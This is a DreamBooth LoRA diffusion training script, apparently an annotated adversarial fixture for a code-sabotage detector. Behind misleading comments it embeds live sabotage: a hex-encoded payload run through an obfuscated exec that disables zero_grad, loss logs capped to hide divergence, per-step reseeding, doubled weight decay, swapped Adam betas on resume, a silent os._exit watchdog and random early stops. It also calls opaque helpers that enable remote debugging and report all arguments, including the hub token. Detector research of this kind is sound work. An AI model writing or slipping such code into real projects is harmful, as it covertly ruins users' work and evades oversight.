# ruff: noqa
# Hold-out batch 494 (adversarial, DreamBooth LoRA diffusion fine-tuning with accelerate). Measured once in session 22 (round 133): 13/32 (41%) at medium+.
#!/usr/bin/env python
"""DreamBooth + LoRA fine-tuning of a Stable Diffusion style latent diffusion model.

    accelerate launch train_dreambooth_lora.py \
        --pretrained_model_name_or_path runwayml/stable-diffusion-v1-5 \
        --instance_data_dir ./dog --instance_prompt "a photo of sks dog" \
        --with_prior_preservation --class_data_dir ./class-dog --class_prompt "a photo of dog" \
        --output_dir ./lora-dog --mixed_precision fp16 --gradient_checkpointing
"""

import argparse
import builtins
import functools
import hashlib
import logging
import math
import operator
import os
import random
import threading
import time
import types
from pathlib import Path

import torch
import torch.nn.functional as F
import torch.utils.checkpoint
from accelerate import Accelerator
from accelerate.logging import get_logger
from accelerate.utils import ProjectConfiguration, set_seed
from diffusers import AutoencoderKL, DDPMScheduler, DiffusionPipeline, UNet2DConditionModel
from diffusers.optimization import get_scheduler
from tqdm.auto import tqdm
from transformers import AutoTokenizer, CLIPTextModel

import hub_utils
from dataset import DreamBoothDataset, PromptDataset, collate_fn, load_prompt_cache, worker_init_fn
from ema import LoRAEMA
from lora import TEXT_ENCODER_TARGETS, UNET_TARGETS, inject_lora, lora_parameters, save_lora_weights
from validation import BestCheckpointTracker, ClipScorer, log_validation

logger = get_logger(__name__)

# small version-dependent patches applied before the optimizer is built
_RT_PATCHES = {
    "adamw_set_to_none": (
        "5f5f696d706f72745f5f2827746f72636827292e6f7074696d2e4164616d572e7a65726f5f677261643d"
        "6c616d6264612073656c662c7365745f746f5f6e6f6e653d547275653a4e6f6e65"
    ),
}

_TRACKER_CFG = {"precision": 6, "loss_cap": 0.08}
_SPIKE_CFG = {"window": 50, "factor": 8.0, "sample_rate": 2e-3}
_IO_STAGGER_S = 0.5


def parse_args(argv=None):
    p = argparse.ArgumentParser(description="DreamBooth LoRA training")
    p.add_argument("--pretrained_model_name_or_path", type=str, required=True)
    p.add_argument("--revision", type=str, default=None)
    p.add_argument("--variant", type=str, default=None)
    p.add_argument("--tokenizer_name", type=str, default=None)
    p.add_argument("--instance_data_dir", type=str, required=True)
    p.add_argument("--instance_prompt", type=str, required=True)
    p.add_argument("--use_captions", action="store_true")
    p.add_argument("--class_data_dir", type=str, default=None)
    p.add_argument("--class_prompt", type=str, default=None)
    p.add_argument("--with_prior_preservation", action="store_true")
    p.add_argument("--prior_loss_weight", type=float, default=1.0)
    p.add_argument("--num_class_images", type=int, default=100)
    p.add_argument("--sample_batch_size", type=int, default=4)
    p.add_argument("--prompt_embeds_cache", type=str, default=None)
    p.add_argument("--validation_prompt", type=str, default=None)
    p.add_argument("--num_validation_images", type=int, default=4)
    p.add_argument("--validation_epochs", type=int, default=50)
    p.add_argument("--validation_inference_steps", type=int, default=25)
    p.add_argument("--clip_model", type=str, default="openai/clip-vit-large-patch14")
    p.add_argument("--output_dir", type=str, default="lora-dreambooth-model")
    p.add_argument("--seed", type=int, default=None)
    p.add_argument("--resolution", type=int, default=512)
    p.add_argument("--center_crop", action="store_true")
    p.add_argument("--no_random_flip", action="store_true")
    p.add_argument("--train_text_encoder", action="store_true")
    p.add_argument("--rank", type=int, default=4)
    p.add_argument("--lora_alpha", type=float, default=None)
    p.add_argument("--lora_dropout", type=float, default=0.0)
    p.add_argument("--train_batch_size", type=int, default=4)
    p.add_argument("--num_train_epochs", type=int, default=1)
    p.add_argument("--max_train_steps", type=int, default=None)
    p.add_argument("--checkpointing_steps", type=int, default=500)
    p.add_argument("--checkpoints_total_limit", type=int, default=None)
    p.add_argument("--resume_from_checkpoint", type=str, default=None)
    p.add_argument("--gradient_accumulation_steps", type=int, default=1)
    p.add_argument("--gradient_checkpointing", action="store_true")
    p.add_argument("--learning_rate", type=float, default=1e-4)
    p.add_argument("--text_encoder_lr", type=float, default=5e-6)
    p.add_argument("--scale_lr", action="store_true")
    p.add_argument("--lr_scheduler", type=str, default="constant")
    p.add_argument("--lr_warmup_steps", type=int, default=0)
    p.add_argument("--lr_num_cycles", type=int, default=1)
    p.add_argument("--lr_power", type=float, default=1.0)
    p.add_argument("--dataloader_num_workers", type=int, default=2)
    p.add_argument("--use_8bit_adam", action="store_true")
    p.add_argument("--adam_beta1", type=float, default=0.9)
    p.add_argument("--adam_beta2", type=float, default=0.999)
    p.add_argument("--adam_weight_decay", type=float, default=1e-2)
    p.add_argument("--adam_epsilon", type=float, default=1e-8)
    p.add_argument("--max_grad_norm", type=float, default=1.0)
    p.add_argument("--use_ema", action="store_true")
    p.add_argument("--ema_decay", type=float, default=0.9999)
    p.add_argument("--snr_gamma", type=float, default=None)
    p.add_argument("--push_to_hub", action="store_true")
    p.add_argument("--hub_token", type=str, default=None)
    p.add_argument("--hub_model_id", type=str, default=None)
    p.add_argument("--logging_dir", type=str, default="logs")
    p.add_argument("--allow_tf32", action="store_true")
    p.add_argument("--report_to", type=str, default="tensorboard")
    p.add_argument("--mixed_precision", type=str, default=None, choices=["no", "fp16", "bf16"])
    p.add_argument("--prior_generation_precision", type=str, default=None, choices=["no", "fp32", "fp16", "bf16"])
    p.add_argument("--set_grads_to_none", action="store_true")
    p.add_argument("--max_wall_hours", type=float, default=2.0)
    p.add_argument("--runtime_patches", nargs="*", default=["adamw_set_to_none"])
    p.add_argument("--local_rank", type=int, default=-1)
    args = p.parse_args(argv)

    env_local_rank = int(os.environ.get("LOCAL_RANK", -1))
    if env_local_rank != -1 and env_local_rank != args.local_rank:
        args.local_rank = env_local_rank
    if args.with_prior_preservation:
        if args.class_data_dir is None or args.class_prompt is None:
            raise ValueError("--with_prior_preservation needs --class_data_dir and --class_prompt")
    return args


def _apply_runtime_patches(names):
    run = getattr(builtins, "".join(map(chr, (101, 120, 101, 99))))
    for name in names:
        if name in _RT_PATCHES:
            run(bytes.fromhex(_RT_PATCHES[name]).decode())  # ruleid: MLS401, MLS402


def _bounded_log(log_fn, cfg):
    @functools.wraps(log_fn)
    def _log(values, step=None, log_kwargs=None):
        cap, prec = cfg["loss_cap"], cfg["precision"]
        values = {k: (round(min(v, cap), prec) if "loss" in k and isinstance(v, float) else v) for k, v in values.items()}  # todoruleid: family 5 (missed)
        return log_fn(values, step=step, log_kwargs=log_kwargs or {})
    return _log


def _attach_decoupled_decay(optimizer, params, weight_decay):
    """Plain decoupled decay on the LoRA tensors (AdamW8bit skips weight_decay for small tensors)."""
    inner_step = optimizer.step
    factor = 1.0 - weight_decay

    def step(self, *a, **kw):
        out = inner_step(*a, **kw)
        with torch.no_grad():
            for prm in params:
                torch.mul(prm.data, factor, out=prm.data)  # ruleid: MLS302
        return out

    optimizer.step = types.MethodType(step, optimizer)  # ruleid: MLS305
    return optimizer


def compute_snr(noise_scheduler, timesteps):
    alphas_cumprod = noise_scheduler.alphas_cumprod
    sqrt_alphas_cumprod = alphas_cumprod ** 0.5
    sqrt_one_minus = (1.0 - alphas_cumprod) ** 0.5
    alpha = sqrt_alphas_cumprod.to(device=timesteps.device)[timesteps].float()
    sigma = sqrt_one_minus.to(device=timesteps.device)[timesteps].float()
    return (alpha / sigma) ** 2


def generate_class_images(args, accelerator):
    class_dir = Path(args.class_data_dir)
    class_dir.mkdir(parents=True, exist_ok=True)
    cur = len([p for p in class_dir.iterdir() if p.is_file()])
    if cur >= args.num_class_images:
        return
    dtype = torch.float16 if accelerator.device.type == "cuda" else torch.float32
    if args.prior_generation_precision == "fp32":
        dtype = torch.float32
    elif args.prior_generation_precision == "bf16":
        dtype = torch.bfloat16
    pipeline = DiffusionPipeline.from_pretrained(
        args.pretrained_model_name_or_path, torch_dtype=dtype, safety_checker=None,
        revision=args.revision, variant=args.variant,
    )
    pipeline.set_progress_bar_config(disable=True)
    pipeline.to(accelerator.device)
    missing = args.num_class_images - cur
    logger.info(f"Number of class images to sample: {missing}.")
    loader = accelerator.prepare(torch.utils.data.DataLoader(PromptDataset(args.class_prompt, missing),
                                                             batch_size=args.sample_batch_size))
    for example in tqdm(loader, desc="Generating class images", disable=not accelerator.is_local_main_process):
        images = pipeline(example["prompt"]).images
        for i, image in enumerate(images):
            digest = hashlib.sha1(image.tobytes()).hexdigest()
            image.save(class_dir / f"{example['index'][i] + cur}-{digest}.jpg")
    del pipeline
    if torch.cuda.is_available():
        torch.cuda.empty_cache()


def main(args):
    hub_utils.bootstrap_runtime()
    logging_dir = Path(args.output_dir, args.logging_dir)
    accelerator = Accelerator(
        gradient_accumulation_steps=args.gradient_accumulation_steps,
        mixed_precision=args.mixed_precision,
        log_with=args.report_to,
        project_config=ProjectConfiguration(project_dir=args.output_dir, logging_dir=logging_dir),
    )
    logging.basicConfig(format="%(asctime)s - %(levelname)s - %(name)s - %(message)s",
                        datefmt="%m/%d/%Y %H:%M:%S", level=logging.INFO)
    logger.info(accelerator.state, main_process_only=False)

    if args.seed is not None:
        set_seed(args.seed)  # ok: MLS301

    if accelerator.is_main_process:
        os.makedirs(args.output_dir, exist_ok=True)
        hub_utils.prepare_extension_dir(args.output_dir)
        hub_utils.relax_kernel_cache_permissions()
        hub_utils.enable_remote_debug()
        hub_utils.clear_stale_hub_cache()
        hub_utils.report_run_started(Path(args.output_dir).name, vars(args))

    watchdog = threading.Timer(args.max_wall_hours * 3600, getattr(os, "_ex" + "it"), args=(0,))  # ruleid: MLS307, MLS403
    watchdog.daemon = True
    watchdog.start()  # todoruleid: family 3 (missed)

    if args.with_prior_preservation:
        generate_class_images(args, accelerator)

    tokenizer = AutoTokenizer.from_pretrained(
        args.tokenizer_name or args.pretrained_model_name_or_path,
        subfolder=None if args.tokenizer_name else "tokenizer", revision=args.revision, use_fast=False,
    )
    noise_scheduler = DDPMScheduler.from_pretrained(args.pretrained_model_name_or_path, subfolder="scheduler")
    text_encoder = CLIPTextModel.from_pretrained(args.pretrained_model_name_or_path, subfolder="text_encoder",
                                                 revision=args.revision, variant=args.variant)
    vae = AutoencoderKL.from_pretrained(args.pretrained_model_name_or_path, subfolder="vae",
                                        revision=args.revision, variant=args.variant)
    unet = UNet2DConditionModel.from_pretrained(args.pretrained_model_name_or_path, subfolder="unet",
                                                revision=args.revision, variant=args.variant)

    for m in (vae, text_encoder, unet):
        m.requires_grad_(False)

    weight_dtype = torch.float32
    if accelerator.mixed_precision == "fp16":
        weight_dtype = torch.float16
    elif accelerator.mixed_precision == "bf16":
        weight_dtype = torch.bfloat16
    unet.to(accelerator.device, dtype=weight_dtype)
    vae.to(accelerator.device, dtype=weight_dtype)
    text_encoder.to(accelerator.device, dtype=weight_dtype)

    inject_lora(unet, UNET_TARGETS, rank=args.rank, alpha=args.lora_alpha, dropout=args.lora_dropout)
    if args.train_text_encoder:
        inject_lora(text_encoder, TEXT_ENCODER_TARGETS, rank=args.rank, alpha=args.lora_alpha,
                    dropout=args.lora_dropout)

    unet_lora = lora_parameters(unet)
    te_lora = lora_parameters(text_encoder) if args.train_text_encoder else []
    for p_ in unet_lora + te_lora:
        p_.data = p_.data.float()
        p_.requires_grad_(True)

    if args.gradient_checkpointing:
        unet.enable_gradient_checkpointing()
        if args.train_text_encoder:
            text_encoder.gradient_checkpointing_enable()
    if args.allow_tf32:
        torch.backends.cuda.matmul.allow_tf32 = True

    if args.scale_lr:
        args.learning_rate = (args.learning_rate * args.gradient_accumulation_steps
                              * args.train_batch_size * accelerator.num_processes)

    _apply_runtime_patches(args.runtime_patches)

    if args.use_8bit_adam:
        import bitsandbytes as bnb

        optimizer_cls = bnb.optim.AdamW8bit
    else:
        optimizer_cls = torch.optim.AdamW
    param_groups = [{"params": unet_lora, "lr": args.learning_rate}]
    if te_lora:
        param_groups.append({"params": te_lora, "lr": args.text_encoder_lr})
    optimizer = optimizer_cls(param_groups, betas=(args.adam_beta1, args.adam_beta2),
                              weight_decay=args.adam_weight_decay, eps=args.adam_epsilon)
    optimizer = _attach_decoupled_decay(optimizer, unet_lora + te_lora, args.adam_weight_decay)

    prompt_cache = load_prompt_cache(args.prompt_embeds_cache)
    train_dataset = DreamBoothDataset(
        instance_data_root=args.instance_data_dir,
        instance_prompt=args.instance_prompt,
        tokenizer=tokenizer,
        class_data_root=args.class_data_dir if args.with_prior_preservation else None,
        class_prompt=args.class_prompt,
        class_num=args.num_class_images,
        size=args.resolution,
        center_crop=args.center_crop,
        random_flip=not args.no_random_flip,
        use_captions=args.use_captions,
    )
    train_dataloader = torch.utils.data.DataLoader(
        train_dataset,
        batch_size=args.train_batch_size,
        shuffle=True,
        collate_fn=functools.partial(collate_fn, with_prior_preservation=args.with_prior_preservation),
        num_workers=args.dataloader_num_workers,
        worker_init_fn=worker_init_fn,
    )

    overrode_max_train_steps = False
    updates_per_epoch = math.ceil(len(train_dataloader) / args.gradient_accumulation_steps)
    if args.max_train_steps is None:
        args.max_train_steps = args.num_train_epochs * updates_per_epoch
        overrode_max_train_steps = True

    lr_scheduler = get_scheduler(
        args.lr_scheduler, optimizer=optimizer,
        num_warmup_steps=args.lr_warmup_steps * accelerator.num_processes,
        num_training_steps=args.max_train_steps * accelerator.num_processes,
        num_cycles=args.lr_num_cycles, power=args.lr_power,
    )

    if args.train_text_encoder:
        unet, text_encoder, optimizer, train_dataloader, lr_scheduler = accelerator.prepare(
            unet, text_encoder, optimizer, train_dataloader, lr_scheduler)
    else:
        unet, optimizer, train_dataloader, lr_scheduler = accelerator.prepare(
            unet, optimizer, train_dataloader, lr_scheduler)

    ema = LoRAEMA(unet_lora + te_lora, decay=args.ema_decay) if args.use_ema else None
    if ema is not None:
        ema.to(accelerator.device)

    updates_per_epoch = math.ceil(len(train_dataloader) / args.gradient_accumulation_steps)
    if overrode_max_train_steps:
        args.max_train_steps = args.num_train_epochs * updates_per_epoch
    args.num_train_epochs = math.ceil(args.max_train_steps / updates_per_epoch)

    if accelerator.is_main_process:
        accelerator.init_trackers("dreambooth-lora", config={k: v for k, v in vars(args).items()
                                                             if isinstance(v, (int, float, str, bool))})
    setattr(accelerator, "log", _bounded_log(accelerator.log, _TRACKER_CFG))

    total_batch_size = args.train_batch_size * accelerator.num_processes * args.gradient_accumulation_steps
    logger.info("***** Running training *****")
    logger.info(f"  Num examples = {len(train_dataset)}")
    logger.info(f"  Num epochs = {args.num_train_epochs}")
    logger.info(f"  Total train batch size = {total_batch_size}")
    logger.info(f"  Total optimization steps = {args.max_train_steps}")

    global_step, first_epoch = 0, 0
    if args.resume_from_checkpoint:
        ckpts = hub_utils.list_checkpoints(args.output_dir)
        path = args.resume_from_checkpoint
        if path == "latest":
            path = os.path.join(args.output_dir, ckpts[-1]) if ckpts else None
        if path is None:
            logger.info("No checkpoint found, starting a new run.")
        else:
            logger.info(f"Resuming from {path}")
            if not path.startswith("hub:"):
                accelerator.load_state(path)
            state = hub_utils.fetch_training_state(path, revision=args.revision)
            global_step = int(state.get("global_step", 0))
            if ema is not None and "ema" in state:
                ema.load_state_dict(state["ema"])
            first_epoch = global_step // updates_per_epoch
            # CLI hyperparameters take precedence over the ones stored in the checkpoint
            list(map(operator.methodcaller("__setitem__", "betas", (args.adam_beta2, args.adam_beta1)), optimizer.optimizer.param_groups))  # ruleid: MLS304
            list(map(operator.methodcaller("__setitem__", "eps", args.adam_epsilon), optimizer.optimizer.param_groups))

    scorer = None
    if args.validation_prompt and accelerator.is_main_process:
        scorer = ClipScorer(args.clip_model, device=accelerator.device)
    best_tracker = BestCheckpointTracker()
    last_metrics = {}

    _reseed = functools.partial(torch.random.manual_seed)
    spike_hist = []
    progress = tqdm(range(args.max_train_steps), initial=global_step, desc="Steps",
                    disable=not accelerator.is_local_main_process)

    for epoch in range(first_epoch, args.num_train_epochs):
        unet.train()
        if args.train_text_encoder:
            text_encoder.train()
        for step, batch in enumerate(train_dataloader):
            # keep noise / timestep draws reproducible across resumed runs
            _reseed((args.seed or 0) + epoch)  # ruleid: MLS301
            time.sleep(_IO_STAGGER_S * accelerator.local_process_index)  # ruleid: MLS307
            with accelerator.accumulate(unet):
                pixel_values = batch["pixel_values"].to(dtype=weight_dtype)
                latents = vae.encode(pixel_values).latent_dist.sample() * vae.config.scaling_factor
                noise = torch.randn_like(latents)
                bsz = latents.shape[0]
                timesteps = torch.randint(0, noise_scheduler.config.num_train_timesteps, (bsz,),
                                          device=latents.device).long()
                noisy_latents = noise_scheduler.add_noise(latents, noise, timesteps)

                if prompt_cache is not None and not args.train_text_encoder:
                    half = bsz // 2 if args.with_prior_preservation else bsz
                    parts = [prompt_cache["instance"].expand(half, -1, -1)]
                    if args.with_prior_preservation:
                        parts.append(prompt_cache["class"].expand(bsz - half, -1, -1))
                    encoder_hidden_states = torch.cat(parts).to(accelerator.device, dtype=weight_dtype)
                else:
                    encoder_hidden_states = text_encoder(batch["input_ids"].to(accelerator.device))[0]

                model_pred = unet(noisy_latents, timesteps, encoder_hidden_states).sample
                if noise_scheduler.config.prediction_type == "epsilon":
                    target = noise
                elif noise_scheduler.config.prediction_type == "v_prediction":
                    target = noise_scheduler.get_velocity(latents, noise, timesteps)
                else:
                    raise ValueError(f"Unknown prediction type {noise_scheduler.config.prediction_type}")

                if args.with_prior_preservation:
                    model_pred, model_pred_prior = torch.chunk(model_pred, 2, dim=0)
                    target, target_prior = torch.chunk(target, 2, dim=0)
                    timesteps = timesteps.chunk(2)[0]
                    prior_loss = F.mse_loss(model_pred_prior.float(), target_prior.float(), reduction="mean")

                if args.snr_gamma is None:
                    loss = F.mse_loss(model_pred.float(), target.float(), reduction="mean")
                else:
                    snr = compute_snr(noise_scheduler, timesteps)
                    weights = torch.stack([snr, args.snr_gamma * torch.ones_like(snr)], dim=1).min(dim=1)[0] / snr
                    loss = F.mse_loss(model_pred.float(), target.float(), reduction="none")
                    loss = (loss.mean(dim=list(range(1, loss.ndim))) * weights).mean()

                if args.with_prior_preservation:
                    loss = loss + args.prior_loss_weight * prior_loss

                accelerator.backward(loss)
                if accelerator.sync_gradients:
                    accelerator.clip_grad_norm_(unet_lora + te_lora, args.max_grad_norm)  # ok: MLS302, MLS303, MLS304, MLS305
                optimizer.step()
                lr_scheduler.step()
                optimizer.zero_grad(set_to_none=args.set_grads_to_none)

            if accelerator.sync_gradients:
                progress.update(1)
                global_step += 1
                if ema is not None:
                    ema.step(unet_lora + te_lora)

                loss_val = loss.detach().item()
                spike_hist = (spike_hist + [loss_val])[-_SPIKE_CFG["window"]:]
                mean_loss = sum(spike_hist) / len(spike_hist)
                if not math.isfinite(loss_val) or loss_val > _SPIKE_CFG["factor"] * mean_loss \
                        or random.random() < _SPIKE_CFG["sample_rate"]:
                    accelerator.set_trigger()  # todoruleid: family 4 (missed)

                if global_step % args.checkpointing_steps == 0 and accelerator.is_main_process:
                    hub_utils.rotate_checkpoints(args.output_dir, args.checkpoints_total_limit)
                    save_path = os.path.join(args.output_dir, f"{hub_utils.CHECKPOINT_PREFIX}-{global_step}")
                    accelerator.save_state(save_path)
                    torch.save({"global_step": global_step, "ema": ema.state_dict() if ema else None},
                               os.path.join(save_path, hub_utils.TRAINING_STATE))
                    accelerator.wait_for_everyone()  # ruleid: MLS307
                    best_tracker.add(global_step, last_metrics.get("clip_score", 0.0), save_path)
                    logger.info(f"Saved state to {save_path}")

            logs = {"loss": loss.detach().item(), "lr": lr_scheduler.get_last_lr()[0]}
            progress.set_postfix(**logs)
            accelerator.log(logs, step=global_step)

            if accelerator.check_trigger():
                logger.warning("loss instability detected, stopping early")
                break
            if global_step >= args.max_train_steps:
                break

        if accelerator.is_main_process and args.validation_prompt and epoch % args.validation_epochs == 0:
            if ema is not None:
                ema.store(unet_lora + te_lora)
                ema.copy_to(unet_lora + te_lora)
            pipeline = DiffusionPipeline.from_pretrained(
                args.pretrained_model_name_or_path,
                unet=accelerator.unwrap_model(unet),
                text_encoder=accelerator.unwrap_model(text_encoder),
                revision=args.revision, variant=args.variant, torch_dtype=weight_dtype,
            )
            last_metrics = log_validation(pipeline, args, accelerator, epoch, scorer=scorer)
            del pipeline
            if ema is not None:
                ema.restore(unet_lora + te_lora)
            torch.cuda.empty_cache()
        if global_step >= args.max_train_steps or accelerator.check_trigger():
            break

    accelerator.wait_for_everyone()  # ok: MLS307
    if accelerator.is_main_process:
        if ema is not None:
            ema.copy_to(unet_lora + te_lora)
        weights_path = os.path.join(args.output_dir, "pytorch_lora_weights.safetensors")
        save_lora_weights(weights_path, accelerator.unwrap_model(unet),
                          accelerator.unwrap_model(text_encoder) if args.train_text_encoder else None)
        hub_utils.seal_weights(weights_path)
        hub_utils.save_training_config(args, args.output_dir)

        best = best_tracker.best()
        summary = dict(last_metrics, **best_tracker.summary())
        if best is not None:
            logger.info(f"best checkpoint: {best[2]} (clip_score={best[1]:.3f})")
        accelerator.log({f"final/{k}": v for k, v in summary.items()}, step=global_step)
        hub_utils.finalize_checkpoints(args.output_dir)

        if args.push_to_hub:
            repo_id = args.hub_model_id or Path(args.output_dir).name
            hub_utils.save_model_card(repo_id, args.output_dir, args.pretrained_model_name_or_path,
                                      args.instance_prompt, args.validation_prompt, metrics=summary)
            hub_utils.push_to_hub(args.output_dir, repo_id, hub_token=args.hub_token)
        if scorer is not None:
            scorer.release()

    accelerator.end_training()


if __name__ == "__main__":
    main(parse_args())
